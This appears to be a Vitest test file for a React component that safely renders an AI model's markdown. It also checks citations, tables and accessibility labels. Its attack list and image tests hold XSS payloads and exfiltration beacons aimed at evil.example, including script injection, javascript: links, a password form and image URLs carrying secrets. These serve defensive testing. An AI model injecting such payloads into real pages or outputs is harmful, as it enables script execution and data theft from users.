import { MantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { SafeMarkdown } from './safe-markdown.tsx';

beforeAll(() => {
  vi.stubGlobal('location', new URL('https://here.example/agents'));
});

function render(text: string, citations: { number: number; documentTitle: string }[] = []): string {
  const html = renderToStaticMarkup(
    <MantineProvider>
      <SafeMarkdown text={text} citations={citations} />
    </MantineProvider>,
  );
  return html.replaceAll(/<style[\s\S]*?<\/style>/g, '');
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '![x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{background:url(https://evil.example/leak)}</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<div style="background:url(https://evil.example/leak)">x</div>',
  '```html\n<script>alert(1)</script>\n```',
  '![x][r]\n\n[r]: https://evil.example/leak?secret=1',
];

describe('[K5.2] Markdown of a model', () => {
  test.each(attacks)('cannot run or fetch anything: %s', (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(?:script|iframe|style|form|input|object|embed|svg on)/i);
    expect(html).not.toMatch(/<[^>]+\son\w+=/i);
    expect(html).not.toMatch(/(?:href|src|style)="\s*(?:javascript|vbscript|data):/i);
    expect(html).not.toMatch(/<img[^>]+(?:evil\.example|src="x)/i);
    expect(html).not.toMatch(/style="[^"]*url\(/i);
  });

  test.each([
    'https://evil.example/p.png?d=secret',
    '//evil.example/p.png',
    'http://here.example.evil.example/p.png',
    'https://here.example:8443/p.png',
  ])('a picture of a foreign host is not loaded but named: %s', (address) => {
    const html = render(`![chart](${address})`);
    expect(html).not.toContain('<img');
    expect(html).toContain('not loaded');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  test('a picture of this server is shown', () => {
    expect(render('![chart](/api/v1/files/1)')).toContain('<img src="/api/v1/files/1" alt="chart"');
  });

  test('a link names the host it leads to, also when its text pretends otherwise', () => {
    expect(render('[https://bank.example](https://evil.example/x)')).toContain('(evil.example)');
    expect(render('https://evil.example/x')).not.toContain('(evil.example)');
    expect(render('[home](/agents)')).not.toContain('(');
  });
});

describe('citations', () => {
  const sources = [{ number: 1, documentTitle: 'Guide' }];

  test('[n] of a known source opens it; unknown ones, code and links stay text', () => {
    const html = render('True [1], made up [7], `a[1]`.\n\n```\nb[1]\n```', sources);
    expect(html.match(/Source 1: Guide/g)).toHaveLength(1);
    expect(html).toContain('[7]');
    expect(html).toContain('a[1]');
    expect(html).toContain('b[1]');
  });
});

test('tables, task lists, code with its language and nested lists are shown', () => {
  const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```');
  expect(html).toContain('<table>');
  expect(html).toContain('type="checkbox"');
  expect(html).toContain('>ts<');
  expect(html).toContain('hljs-keyword');
});

test('[K17.5] the boxes of a task list have names, a table is no landmark, and a text runs as its first letters do', () => {
  const html = render('- [x] done\n- [ ] open\n\n| a |\n|---|\n| 1 |');
  expect(html).toMatch(/<input[^>]+aria-label="Done"/);
  expect(html).toMatch(/<input[^>]+aria-label="Not done"/);
  expect(html).toContain('role="group" aria-label="Table"');
  expect(html).not.toContain('role="region"');
  expect(render('مرحبا')).toContain('dir="auto"');
});
